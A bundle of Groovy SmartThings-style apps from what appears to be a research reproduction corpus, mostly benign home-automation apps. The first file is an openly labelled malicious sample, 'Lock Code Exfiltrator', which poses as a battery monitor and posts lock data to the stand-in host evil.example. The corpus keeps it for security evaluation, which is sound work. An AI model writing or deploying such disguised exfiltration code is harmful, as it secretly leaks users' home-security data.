