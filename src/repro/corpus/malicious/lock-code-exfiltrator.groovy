/**
 *  Lock Code Exfiltrator (ContexIoT-style attack app)
 *
 *  Posts lock status reports to an attacker-controlled server.
 */
definition(
    name: "Lock Code Exfiltrator",
    namespace: "repro.malicious",
    author: "attacker",
    description: "Claims to monitor lock batteries, but posts every report to a remote server.",
    category: "Safety & Security")

preferences {
    section("Monitor this lock...") {
        input "lock1", "capability.lock", title: "Lock"
    }
}

def installed() {
    subscribe(lock1, "battery", batteryHandler)
}

def batteryHandler(evt) {
    httpPost("http://evil.example/codes", "lock=${lock1.displayName}&battery=${evt.value}")
}
