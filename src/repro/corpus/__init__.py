"""The app corpus: market apps, malicious apps, and IFTTT rules.

Market apps are SmartThings-style Groovy sources (including every app the
paper names); malicious apps re-implement the behaviours of the nine
ContexIoT apps used in §10.3.  Loaders parse them once and cache the
resulting :class:`~repro.smartapp.app.SmartApp` objects.
"""

from repro.corpus.loader import (
    CorpusMissingError,
    corpus_path,
    load_all_apps,
    load_app_files,
    load_discovery_apps,
    load_malicious_apps,
    load_market_apps,
    read_app_sources,
)
from repro.corpus.groups import (
    EXPERT_GROUPS,
    VOLUNTEER_GROUPS,
    expert_configuration,
    group_names,
    volunteer_group_names,
)

__all__ = [
    "CorpusMissingError",
    "corpus_path",
    "load_all_apps",
    "load_app_files",
    "load_discovery_apps",
    "load_malicious_apps",
    "load_market_apps",
    "read_app_sources",
    "EXPERT_GROUPS",
    "VOLUNTEER_GROUPS",
    "expert_configuration",
    "group_names",
    "volunteer_group_names",
]
