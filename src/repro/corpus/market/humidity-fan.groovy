/**
 *  Humidity Fan
 */
definition(
    name: "Humidity Fan",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Run the bathroom fan whenever the humidity climbs above your comfort level.",
    category: "Convenience")

preferences {
    section("When the humidity here...") {
        input "humidity", "capability.relativeHumidityMeasurement", title: "Sensor"
    }
    section("Runs this fan...") {
        input "fan", "capability.switch", title: "Fan outlet"
    }
    section("When above...") {
        input "maxHumidity", "number", title: "Percent?"
    }
}

def installed() {
    subscribe(humidity, "humidity", humidityHandler)
}

def updated() {
    unsubscribe()
    subscribe(humidity, "humidity", humidityHandler)
}

def humidityHandler(evt) {
    if (evt.doubleValue > maxHumidity) {
        fan.on()
    } else {
        fan.off()
    }
}
