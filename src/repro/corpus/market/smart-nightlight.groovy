/**
 *  Smart Nightlight
 */
definition(
    name: "Smart Nightlight",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Turn lights on with motion when it is dark and off once the motion stops.",
    category: "Convenience")

preferences {
    section("Control these lights...") {
        input "lights", "capability.switch", multiple: true
    }
    section("Turning on when there's movement...") {
        input "motionSensor", "capability.motionSensor", title: "Where?"
    }
    section("And it is dark according to...") {
        input "lightSensor", "capability.illuminanceMeasurement", title: "Light sensor"
    }
    section("Dark means lux below...") {
        input "luxLevel", "number", title: "Lux?", defaultValue: 30
    }
}

def installed() {
    initialize()
}

def updated() {
    unsubscribe()
    initialize()
}

def initialize() {
    subscribe(motionSensor, "motion", motionHandler)
    subscribe(lightSensor, "illuminance", illuminanceHandler)
}

def motionHandler(evt) {
    if (evt.value == "active") {
        if (lightSensor.currentIlluminance < luxLevel) {
            lights.on()
        }
    } else if (evt.value == "inactive") {
        runIn(60, turnOffIfQuiet)
    }
}

def illuminanceHandler(evt) {
    if (evt.integerValue >= luxLevel) {
        lights.off()
    }
}

def turnOffIfQuiet() {
    if (motionSensor.currentMotion == "inactive") {
        lights.off()
    }
}
