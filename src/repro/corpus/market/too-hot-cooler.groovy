/**
 *  Too Hot Cooler
 */
definition(
    name: "Too Hot Cooler",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Turn on the air conditioner when the temperature rises above a threshold and off again once it cools down.",
    category: "Green Living")

preferences {
    section("Monitor the temperature...") {
        input "sensor", "capability.temperatureMeasurement", title: "Sensor"
    }
    section("When the temperature rises above...") {
        input "maxTemp", "number", title: "Temperature?"
    }
    section("Turn on the AC...") {
        input "ac", "capability.switch", title: "AC outlet"
    }
}

def installed() {
    subscribe(sensor, "temperature", temperatureHandler)
}

def updated() {
    unsubscribe()
    subscribe(sensor, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
    if (evt.doubleValue > maxTemp) {
        ac.on()
    } else {
        ac.off()
    }
}
