/**
 *  Big Turn ON
 */
definition(
    name: "Big Turn On",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Turn your lights on when the mode changes or when the app is tapped.",
    category: "Convenience")

preferences {
    section("Turn on all of these switches") {
        input "switches", "capability.switch", title: "Which?", multiple: true
    }
}

def installed() {
    initialize()
}

def updated() {
    unsubscribe()
    initialize()
}

def initialize() {
    subscribe(location, changedLocationMode)
    subscribe(app, appTouch)
}

def changedLocationMode(evt) {
    switches.on()
}

def appTouch(evt) {
    switches.on()
}
