/**
 *  Smart Alarm Disarm
 */
definition(
    name: "Smart Alarm Disarm",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Silence the alarm whenever the home returns to your everyday mode.",
    category: "Safety & Security")

preferences {
    section("Silence this alarm...") {
        input "alarmDevice", "capability.alarm", title: "Alarm"
    }
    section("When the home changes to...") {
        input "disarmMode", "mode", title: "Mode?"
    }
}

def installed() {
    subscribe(location, modeChangeHandler)
}

def updated() {
    unsubscribe()
    subscribe(location, modeChangeHandler)
}

def modeChangeHandler(evt) {
    if (evt.value == disarmMode) {
        alarmDevice.off()
    }
}
