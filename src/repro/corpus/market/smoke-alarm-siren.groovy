/**
 *  Smoke Alarm Siren
 */
definition(
    name: "Smoke Alarm Siren",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Sound the siren while smoke is detected and silence it once the air clears.",
    category: "Safety & Security")

preferences {
    section("When smoke is detected here...") {
        input "smoke", "capability.smokeDetector", title: "Smoke detector"
    }
    section("Sound this siren...") {
        input "siren", "capability.alarm", title: "Siren"
    }
}

def installed() {
    subscribe(smoke, "smoke", smokeHandler)
}

def updated() {
    unsubscribe()
    subscribe(smoke, "smoke", smokeHandler)
}

def smokeHandler(evt) {
    if (evt.value == "detected") {
        siren.siren()
    } else {
        siren.off()
    }
}
