/**
 *  Nobody Home Lockup
 */
definition(
    name: "Nobody Home Lockup",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Lock every door once the last person has left the house.",
    category: "Safety & Security")

preferences {
    section("When all of these people leave...") {
        input "people", "capability.presenceSensor", title: "Who?", multiple: true
    }
    section("Lock these locks...") {
        input "locks", "capability.lock", multiple: true
    }
    section("While the away mode is...") {
        input "awayMode", "mode", title: "Away mode?", required: false
    }
}

def installed() {
    subscribe(people, "presence.not present", departureHandler)
}

def updated() {
    unsubscribe()
    subscribe(people, "presence.not present", departureHandler)
}

def departureHandler(evt) {
    if (everyoneIsAway()) {
        locks.lock()
    }
}

def everyoneIsAway() {
    def values = people.currentPresence
    return !values.contains("present")
}
