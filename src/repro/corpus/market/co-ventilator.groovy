/**
 *  CO Ventilator
 */
definition(
    name: "CO Ventilator",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Run the ventilation fan while carbon monoxide is detected.",
    category: "Safety & Security")

preferences {
    section("When CO is detected here...") {
        input "detector", "capability.carbonMonoxideDetector", title: "CO detector"
    }
    section("Run this fan...") {
        input "fan", "capability.switch", title: "Fan outlet"
    }
}

def installed() {
    subscribe(detector, "carbonMonoxide", coHandler)
}

def updated() {
    unsubscribe()
    subscribe(detector, "carbonMonoxide", coHandler)
}

def coHandler(evt) {
    if (evt.value == "detected") {
        fan.on()
    } else {
        fan.off()
    }
}
