/**
 *  It's Too Cold
 */
definition(
    name: "It's Too Cold",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Monitor the temperature and when it drops below your setting get a text and/or turn on a heater.",
    category: "Convenience")

preferences {
    section("Monitor the temperature...") {
        input "temperatureSensor1", "capability.temperatureMeasurement", title: "Sensor"
    }
    section("When the temperature drops below...") {
        input "temperature1", "number", title: "Temperature?"
    }
    section("Text me at (optional)...") {
        input "phone1", "phone", title: "Phone number?", required: false
    }
    section("Turn on a heater (optional)...") {
        input "heater", "capability.switch", title: "Heater", required: false
    }
}

def installed() {
    subscribe(temperatureSensor1, "temperature", temperatureHandler)
}

def updated() {
    unsubscribe()
    subscribe(temperatureSensor1, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
    def tooCold = temperature1
    if (evt.doubleValue <= tooCold) {
        if (phone1) {
            sendSms(phone1, "${temperatureSensor1.displayName} is too cold, reported a temperature of ${evt.value}")
        }
        if (heater) {
            heater.on()
        }
    } else {
        if (heater) {
            heater.off()
        }
    }
}
