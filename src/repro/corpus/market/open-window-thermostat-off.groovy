/**
 *  Open Window Thermostat Off
 */
definition(
    name: "Open Window Thermostat Off",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Shut the thermostat off when a window or door opens and restore it when everything is closed again.",
    category: "Green Living")

preferences {
    section("When any of these open...") {
        input "contacts", "capability.contactSensor", title: "Windows/doors", multiple: true
    }
    section("Turn off this thermostat...") {
        input "thermostat", "capability.thermostat", title: "Thermostat"
    }
    section("Restoring it to this mode when closed...") {
        input "restoreMode", "enum", title: "Mode?", options: ["auto", "heat", "cool"], defaultValue: "auto"
    }
}

def installed() {
    subscribe(contacts, "contact", contactHandler)
}

def updated() {
    unsubscribe()
    subscribe(contacts, "contact", contactHandler)
}

def contactHandler(evt) {
    if (evt.value == "open") {
        thermostat.setThermostatMode("off")
    } else if (allClosed()) {
        thermostat.setThermostatMode(restoreMode)
    }
}

def allClosed() {
    def values = contacts.currentContact
    return !values.contains("open")
}
