/**
 *  Light Follows Me
 */
definition(
    name: "Light Follows Me",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Turn lights on when motion is detected and off again once the motion stops for a set period of time.",
    category: "Convenience")

preferences {
    section("Turn on when there's movement...") {
        input "motion1", "capability.motionSensor", title: "Where?"
    }
    section("And off when there's been no movement for...") {
        input "minutes1", "number", title: "Minutes?"
    }
    section("Turn on/off light(s)...") {
        input "switches", "capability.switch", multiple: true
    }
}

def installed() {
    initialize()
}

def updated() {
    unsubscribe()
    initialize()
}

def initialize() {
    subscribe(motion1, "motion", motionHandler)
}

def motionHandler(evt) {
    if (evt.value == "active") {
        unschedule(scheduledTurnOff)
        switches.on()
    } else if (evt.value == "inactive") {
        runIn(minutes1 * 60, scheduledTurnOff)
    }
}

def scheduledTurnOff() {
    if (motion1.currentMotion == "inactive") {
        switches.off()
    }
}
