/**
 *  Motion Announcer
 */
definition(
    name: "Motion Announcer",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Text when motion is sensed while the home is in Away mode.",
    category: "Safety & Security")

preferences {
    section("When motion is sensed here...") {
        input "motion1", "capability.motionSensor", title: "Motion"
    }
    section("Text this number...") {
        input "phone1", "phone", title: "Phone number?"
    }
}

def installed() {
    subscribe(motion1, "motion.active", motionHandler)
}

def updated() {
    unsubscribe()
    subscribe(motion1, "motion.active", motionHandler)
}

def motionHandler(evt) {
    if (location.mode == "Away") {
        sendSms(phone1, "Motion detected at ${motion1.displayName} while you are away!")
    }
}
