/**
 *  Scheduled Mode Change
 */
definition(
    name: "Scheduled Mode Change",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Change the location mode on a daily schedule.",
    category: "Mode Magic")

preferences {
    section("Change to this mode...") {
        input "targetMode", "mode", title: "Mode?"
    }
}

def installed() {
    schedule("0 0 21 * * ?", changeMode)
}

def updated() {
    unschedule()
    schedule("0 0 21 * * ?", changeMode)
}

def changeMode() {
    setLocationMode(targetMode)
}
