/**
 *  Door Left Open Alert
 */
definition(
    name: "Door Left Open Alert",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Text when a door has been left standing open too long.",
    category: "Safety & Security")

preferences {
    section("Watch this door...") {
        input "contact1", "capability.contactSensor", title: "Door contact"
    }
    section("Alert after it's been open for...") {
        input "openMinutes", "number", title: "Minutes?"
    }
    section("Text this number...") {
        input "phone1", "phone", title: "Phone number?"
    }
}

def installed() {
    subscribe(contact1, "contact.open", doorOpenHandler)
}

def updated() {
    unsubscribe()
    subscribe(contact1, "contact.open", doorOpenHandler)
}

def doorOpenHandler(evt) {
    runIn(openMinutes * 60, stillOpen)
}

def stillOpen() {
    if (contact1.currentContact == "open") {
        sendSms(phone1, "${contact1.displayName} has been open for ${openMinutes} minutes.")
    }
}
