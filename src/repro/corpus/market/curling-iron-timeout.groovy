/**
 *  Curling Iron Timeout
 */
definition(
    name: "Curling Iron Timeout",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Turn the curling iron outlet off automatically a while after it was switched on.",
    category: "Safety & Security")

preferences {
    section("Watch this outlet...") {
        input "outlet", "capability.switch", title: "Outlet"
    }
    section("Turn it off after...") {
        input "minutes", "number", title: "Minutes?"
    }
}

def installed() {
    subscribe(outlet, "switch.on", switchedOnHandler)
}

def updated() {
    unsubscribe()
    subscribe(outlet, "switch.on", switchedOnHandler)
}

def switchedOnHandler(evt) {
    runIn(minutes * 60, turnOff)
}

def turnOff() {
    outlet.off()
}
