/**
 *  Fire Escape Unlock
 */
definition(
    name: "Fire Escape Unlock",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Unlock the escape route doors the moment smoke is detected.",
    category: "Safety & Security")

preferences {
    section("When smoke is detected by any of...") {
        input "detectors", "capability.smokeDetector", title: "Detectors", multiple: true
    }
    section("Unlock these locks...") {
        input "locks", "capability.lock", multiple: true
    }
}

def installed() {
    subscribe(detectors, "smoke.detected", smokeHandler)
}

def updated() {
    unsubscribe()
    subscribe(detectors, "smoke.detected", smokeHandler)
}

def smokeHandler(evt) {
    locks.unlock()
}
