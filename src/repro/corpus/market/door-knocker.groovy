/**
 *  Door Knocker
 */
definition(
    name: "Door Knocker",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Notify when someone knocks on the door but doesn't open it.",
    category: "Convenience")

preferences {
    section("When someone knocks here...") {
        input "knockSensor", "capability.accelerationSensor", title: "Knock sensor"
    }
    section("But this door stays closed...") {
        input "openSensor", "capability.contactSensor", title: "Door contact"
    }
}

def installed() {
    subscribe(knockSensor, "acceleration.active", knockHandler)
}

def updated() {
    unsubscribe()
    subscribe(knockSensor, "acceleration.active", knockHandler)
}

def knockHandler(evt) {
    if (openSensor.currentContact == "closed") {
        sendPush("Someone is knocking on ${openSensor.displayName}.")
    }
}
