/**
 *  Let There Be Dark!
 *
 *  The Table 2 / Figure 4 worked example, vertex 1: mirrors a door's
 *  open/close state onto a bank of switches, inverted.
 */
definition(
    name: "Let There Be Dark!",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Turn lights off when a door opens and back on when it closes.",
    category: "Convenience")

preferences {
    section("When the door opens/closes...") {
        input "contact1", "capability.contactSensor", title: "Where?"
    }
    section("Turn off/on these lights...") {
        input "switches", "capability.switch", multiple: true
    }
}

def installed() {
    subscribe(contact1, "contact", contactHandler)
}

def updated() {
    unsubscribe()
    subscribe(contact1, "contact", contactHandler)
}

def contactHandler(evt) {
    if (evt.value == "open") {
        switches.off()
    } else if (evt.value == "closed") {
        switches.on()
    }
}
