/**
 *  Goodbye Switches
 */
definition(
    name: "Goodbye Switches",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Turn everything off when the home switches into Away mode.",
    category: "Convenience")

preferences {
    section("Turn off these switches...") {
        input "switches", "capability.switch", multiple: true
    }
    section("When the home changes to...") {
        input "awayMode", "mode", title: "Away mode?"
    }
}

def installed() {
    subscribe(location, modeChangeHandler)
}

def updated() {
    unsubscribe()
    subscribe(location, modeChangeHandler)
}

def modeChangeHandler(evt) {
    if (evt.value == awayMode) {
        switches.off()
    }
}
