/**
 *  Smart Sprinkler
 */
definition(
    name: "Smart Sprinkler",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Water the garden when the soil is dry, skipping runs when the rain sensor is already wet.",
    category: "Green Living")

preferences {
    section("Run this sprinkler...") {
        input "sprinkler", "capability.switch", title: "Sprinkler outlet"
    }
    section("Skipping runs when this sensor is wet...") {
        input "rain", "capability.waterSensor", title: "Rain sensor"
    }
    section("Based on soil moisture from...") {
        input "soil", "capability.relativeHumidityMeasurement", title: "Soil sensor"
    }
    section("Watering below this moisture...") {
        input "minMoisture", "number", title: "Percent?"
    }
}

def installed() {
    subscribe(soil, "humidity", moistureHandler)
}

def updated() {
    unsubscribe()
    subscribe(soil, "humidity", moistureHandler)
}

def moistureHandler(evt) {
    if (evt.doubleValue < minMoisture && rain.currentWater != "wet") {
        sprinkler.on()
    } else if (evt.doubleValue >= minMoisture) {
        sprinkler.off()
    }
}
