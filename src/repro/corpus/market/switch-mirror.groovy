/**
 *  Switch Mirror
 */
definition(
    name: "Switch Mirror",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Mirror the state of a master switch onto slave switches.",
    category: "Convenience")

preferences {
    section("When this switch changes...") {
        input "master", "capability.switch", title: "Master"
    }
    section("Mirror onto...") {
        input "slaves", "capability.switch", title: "Slaves", multiple: true
    }
}

def installed() {
    subscribe(master, "switch", switchHandler)
}

def updated() {
    unsubscribe()
    subscribe(master, "switch", switchHandler)
}

def switchHandler(evt) {
    if (evt.value == "on") {
        slaves.on()
    } else {
        slaves.off()
    }
}
