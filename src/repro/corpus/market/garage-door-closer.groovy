/**
 *  Garage Door Closer
 */
definition(
    name: "Garage Door Closer",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Close the garage door automatically after it has stood open for a while.",
    category: "Safety & Security")

preferences {
    section("Watch this garage door...") {
        input "garage", "capability.garageDoorControl", title: "Garage door"
    }
    section("Close it after this many minutes open...") {
        input "openMinutes", "number", title: "Minutes?"
    }
}

def installed() {
    subscribe(garage, "contact.open", openHandler)
}

def updated() {
    unsubscribe()
    subscribe(garage, "contact.open", openHandler)
}

def openHandler(evt) {
    runIn(openMinutes * 60, closeGarage)
}

def closeGarage() {
    garage.close()
}
