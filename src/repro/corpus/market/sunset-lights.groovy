/**
 *  Sunset Lights
 */
definition(
    name: "Sunset Lights",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Turn the lights on at sunset.",
    category: "Convenience")

preferences {
    section("Turn on these lights...") {
        input "lights", "capability.switch", multiple: true
    }
}

def installed() {
    subscribe(location, "sunset", sunsetHandler)
}

def updated() {
    unsubscribe()
    subscribe(location, "sunset", sunsetHandler)
}

def sunsetHandler(evt) {
    lights.on()
}
