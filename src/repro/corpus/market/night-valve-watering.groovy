/**
 *  Night Valve Watering
 */
definition(
    name: "Night Valve Watering",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Open the irrigation valve on a nightly schedule and close it again after the run.",
    category: "Green Living")

preferences {
    section("Open this valve...") {
        input "valve", "capability.valve", title: "Valve"
    }
    section("For this many minutes...") {
        input "duration", "number", title: "Minutes?"
    }
}

def installed() {
    schedule("0 0 22 * * ?", startWatering)
}

def updated() {
    unschedule()
    schedule("0 0 22 * * ?", startWatering)
}

def startWatering() {
    valve.open()
    runIn(duration * 60, stopWatering)
}

def stopWatering() {
    valve.close()
}
