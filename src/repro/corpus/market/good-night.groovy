/**
 *  Good Night
 *
 *  Puts the home into night mode when the lights go out and the house
 *  has quieted down.
 */
definition(
    name: "Good Night",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Change the mode to night when all the lights are switched off.",
    category: "Mode Magic")

preferences {
    section("When all of these lights are off...") {
        input "lights", "capability.switch", title: "Lights", multiple: true
    }
    section("And there is no motion here...") {
        input "motionSensor", "capability.motionSensor", title: "Motion", required: false
    }
    section("Change to this mode...") {
        input "nightMode", "mode", title: "Night mode?"
    }
}

def installed() {
    subscribe(lights, "switch.off", lightsOffHandler)
}

def updated() {
    unsubscribe()
    subscribe(lights, "switch.off", lightsOffHandler)
}

def lightsOffHandler(evt) {
    if (allLightsOff()) {
        if (!motionSensor || motionSensor.currentMotion != "active") {
            setLocationMode(nightMode)
        }
    }
}

def allLightsOff() {
    def values = lights.currentSwitch
    return !values.contains("on")
}
