/**
 *  Auto Mode Change
 *
 *  Changes the location mode when everyone leaves and when someone returns.
 */
definition(
    name: "Auto Mode Change",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Change the location mode when everybody has left and when someone is back home.",
    category: "Mode Magic")

preferences {
    section("When all of these people leave home...") {
        input "people", "capability.presenceSensor", title: "Who?", multiple: true
    }
    section("Change to this mode when away...") {
        input "awayMode", "mode", title: "Away mode?"
    }
    section("And back to this mode on return...") {
        input "homeMode", "mode", title: "Home mode?"
    }
}

def installed() {
    subscribe(people, "presence", presenceHandler)
}

def updated() {
    unsubscribe()
    subscribe(people, "presence", presenceHandler)
}

def presenceHandler(evt) {
    if (evt.value == "not present") {
        if (everyoneIsAway()) {
            setLocationMode(awayMode)
        }
    } else {
        setLocationMode(homeMode)
    }
}

def everyoneIsAway() {
    def result = true
    for (person in people) {
        if (person.currentPresence == "present") {
            result = false
        }
    }
    return result
}
