/**
 *  Laundry Monitor
 */
definition(
    name: "Laundry Monitor",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Notify when the washing machine's power draw shows the cycle has finished.",
    category: "Convenience")

preferences {
    section("Watch this power meter...") {
        input "meter", "capability.powerMeter", title: "Meter"
    }
    section("Running means watts above...") {
        input "minWatts", "number", title: "Watts?"
    }
}

def installed() {
    subscribe(meter, "power", powerHandler)
}

def updated() {
    unsubscribe()
    subscribe(meter, "power", powerHandler)
}

def powerHandler(evt) {
    if (evt.doubleValue >= minWatts) {
        state.running = true
    } else if (state.running) {
        state.running = false
        sendPush("The laundry is done!")
    }
}
