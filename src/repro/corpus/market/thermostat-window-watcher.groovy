/**
 *  Thermostat Window Watcher
 */
definition(
    name: "Thermostat Window Watcher",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Kill the HVAC when a window opens and set it back to auto once every window is closed.",
    category: "Green Living")

preferences {
    section("When any of these open...") {
        input "contacts", "capability.contactSensor", title: "Windows", multiple: true
    }
    section("Shut off this thermostat...") {
        input "tstat", "capability.thermostat", title: "Thermostat"
    }
}

def installed() {
    subscribe(contacts, "contact", contactHandler)
}

def updated() {
    unsubscribe()
    subscribe(contacts, "contact", contactHandler)
}

def contactHandler(evt) {
    if (evt.value == "open") {
        tstat.setThermostatMode("off")
    } else if (allClosed()) {
        tstat.auto()
    }
}

def allClosed() {
    def values = contacts.currentContact
    return !values.contains("open")
}
