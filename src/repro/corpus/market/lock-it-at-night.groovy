/**
 *  Lock It At Night
 */
definition(
    name: "Lock It At Night",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Lock the selected locks when the home changes to night mode.",
    category: "Safety & Security")

preferences {
    section("Lock these locks...") {
        input "locks", "capability.lock", multiple: true
    }
    section("When the home changes to this mode...") {
        input "nightMode", "mode", title: "Night mode?"
    }
}

def installed() {
    subscribe(location, modeChangeHandler)
}

def updated() {
    unsubscribe()
    subscribe(location, modeChangeHandler)
}

def modeChangeHandler(evt) {
    if (evt.value == nightMode) {
        locks.lock()
    }
}
