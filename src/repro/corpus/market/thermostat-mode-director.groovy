/**
 *  Thermostat Mode Director
 */
definition(
    name: "Thermostat Mode Director",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Set back the heating setpoint when the home goes into Away mode and restore comfort on return.",
    category: "Green Living")

preferences {
    section("Direct this thermostat...") {
        input "tstat", "capability.thermostat", title: "Thermostat"
    }
    section("Comfort heating setpoint...") {
        input "comfortHeat", "number", title: "Degrees?"
    }
    section("Setback heating setpoint when away...") {
        input "setbackHeat", "number", title: "Degrees?"
    }
}

def installed() {
    subscribe(location, modeChangeHandler)
}

def updated() {
    unsubscribe()
    subscribe(location, modeChangeHandler)
}

def modeChangeHandler(evt) {
    if (evt.value == "Away") {
        tstat.setHeatingSetpoint(setbackHeat)
    } else if (evt.value == "Home") {
        tstat.setHeatingSetpoint(comfortHeat)
    }
}
