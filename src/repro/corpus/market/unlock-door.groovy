/**
 *  Unlock Door
 *
 *  Unlocks the door when the location mode changes or on app touch
 *  (the Figure 1 / Figure 7 running example).
 */
definition(
    name: "Unlock Door",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Unlock the main door when the location mode changes or when the app is tapped.",
    category: "Safety & Security")

preferences {
    section("Which lock?") {
        input "lock1", "capability.lock", title: "Lock"
    }
}

def installed() {
    initialize()
}

def updated() {
    unsubscribe()
    initialize()
}

def initialize() {
    subscribe(location, changedLocationMode)
    subscribe(app, appTouch)
}

def changedLocationMode(evt) {
    lock1.unlock()
}

def appTouch(evt) {
    lock1.unlock()
}
