/**
 *  Dehumidifier Control
 */
definition(
    name: "Dehumidifier Control",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Run a dehumidifier with hysteresis: on above the high band, off below the low band.",
    category: "Convenience")

preferences {
    section("When the humidity here...") {
        input "humiditySensor", "capability.relativeHumidityMeasurement", title: "Sensor"
    }
    section("Rises above...") {
        input "highHumidity", "number", title: "High percent?"
    }
    section("Until it falls below...") {
        input "lowHumidity", "number", title: "Low percent?"
    }
    section("Control this dehumidifier...") {
        input "dehumidifier", "capability.switch", title: "Outlet"
    }
}

def installed() {
    subscribe(humiditySensor, "humidity", humidityHandler)
}

def updated() {
    unsubscribe()
    subscribe(humiditySensor, "humidity", humidityHandler)
}

def humidityHandler(evt) {
    def value = evt.doubleValue
    if (value >= highHumidity) {
        dehumidifier.on()
    } else if (value <= lowHumidity) {
        dehumidifier.off()
    }
}
