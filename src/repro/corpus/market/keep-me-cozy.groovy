/**
 *  Keep Me Cozy
 */
definition(
    name: "Keep Me Cozy",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Work with a thermostat to keep a remote room at your chosen temperature.",
    category: "Green Living")

preferences {
    section("Control this thermostat...") {
        input "thermostat", "capability.thermostat", title: "Thermostat"
    }
    section("Based on this remote sensor...") {
        input "sensor", "capability.temperatureMeasurement", title: "Sensor"
    }
    section("Keep the room at...") {
        input "setpoint", "number", title: "Degrees?"
    }
}

def installed() {
    subscribe(sensor, "temperature", temperatureHandler)
}

def updated() {
    unsubscribe()
    subscribe(sensor, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
    def currentTemp = evt.doubleValue
    if (currentTemp < setpoint) {
        thermostat.heat()
        thermostat.setHeatingSetpoint(setpoint)
    } else if (currentTemp > setpoint) {
        thermostat.cool()
        thermostat.setCoolingSetpoint(setpoint)
    }
}
