/**
 *  Camera On Motion
 */
definition(
    name: "Camera On Motion",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Capture a camera image when motion is sensed while the home is armed.",
    category: "Safety & Security")

preferences {
    section("When motion is sensed here...") {
        input "motionSensor", "capability.motionSensor", title: "Motion"
    }
    section("Take a picture with...") {
        input "camera", "capability.imageCapture", title: "Camera"
    }
    section("While the home is in this mode...") {
        input "armedMode", "mode", title: "Armed mode?"
    }
}

def installed() {
    subscribe(motionSensor, "motion.active", motionHandler)
}

def updated() {
    unsubscribe()
    subscribe(motionSensor, "motion.active", motionHandler)
}

def motionHandler(evt) {
    if (location.mode == armedMode) {
        camera.take()
    }
}
