/**
 *  Low Battery Alert
 */
definition(
    name: "Low Battery Alert",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Push a notification when any watched device reports a low battery.",
    category: "Convenience")

preferences {
    section("Watch the batteries of...") {
        input "batteries", "capability.battery", title: "Devices", multiple: true
    }
    section("Alert below this level...") {
        input "minLevel", "number", title: "Percent?"
    }
}

def installed() {
    subscribe(batteries, "battery", batteryHandler)
}

def updated() {
    unsubscribe()
    subscribe(batteries, "battery", batteryHandler)
}

def batteryHandler(evt) {
    if (evt.doubleValue <= minLevel) {
        sendPush("${evt.displayName} battery is down to ${evt.value}%")
    }
}
