/**
 *  Darken Behind Me
 */
definition(
    name: "Darken Behind Me",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Turn your lights off after the motion stops behind you.",
    category: "Convenience")

preferences {
    section("When there's no more movement...") {
        input "motion1", "capability.motionSensor", title: "Where?"
    }
    section("Turn off these lights...") {
        input "switches", "capability.switch", multiple: true
    }
}

def installed() {
    subscribe(motion1, "motion.inactive", motionInactiveHandler)
}

def updated() {
    unsubscribe()
    subscribe(motion1, "motion.inactive", motionInactiveHandler)
}

def motionInactiveHandler(evt) {
    switches.off()
}
