/**
 *  Leak Shutoff
 */
definition(
    name: "Leak Shutoff",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Close the main water valve the moment any leak sensor gets wet.",
    category: "Safety & Security")

preferences {
    section("When water is sensed by any of...") {
        input "sensors", "capability.waterSensor", title: "Leak sensors", multiple: true
    }
    section("Close this valve...") {
        input "valve", "capability.valve", title: "Valve"
    }
}

def installed() {
    subscribe(sensors, "water.wet", waterHandler)
}

def updated() {
    unsubscribe()
    subscribe(sensors, "water.wet", waterHandler)
}

def waterHandler(evt) {
    valve.close()
}
