/**
 *  Away Speaker Off
 */
definition(
    name: "Away Speaker Off",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Stop the music when the last person leaves the house.",
    category: "Convenience")

preferences {
    section("When all of these people leave...") {
        input "people", "capability.presenceSensor", title: "Who?", multiple: true
    }
    section("Stop these players...") {
        input "players", "capability.musicPlayer", title: "Players", multiple: true
    }
}

def installed() {
    subscribe(people, "presence.not present", departureHandler)
}

def updated() {
    unsubscribe()
    subscribe(people, "presence.not present", departureHandler)
}

def departureHandler(evt) {
    if (everyoneIsAway()) {
        players.stop()
    }
}

def everyoneIsAway() {
    def values = people.currentPresence
    return !values.contains("present")
}
