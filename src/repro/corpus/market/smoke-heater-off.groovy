/**
 *  Smoke Heater Off
 */
definition(
    name: "Smoke Heater Off",
    namespace: "repro.market",
    author: "SmartThings",
    description: "Cut power to the heaters as soon as smoke is detected.",
    category: "Safety & Security")

preferences {
    section("When smoke is detected here...") {
        input "detector", "capability.smokeDetector", title: "Detector"
    }
    section("Turn off these heaters...") {
        input "heaters", "capability.switch", multiple: true
    }
}

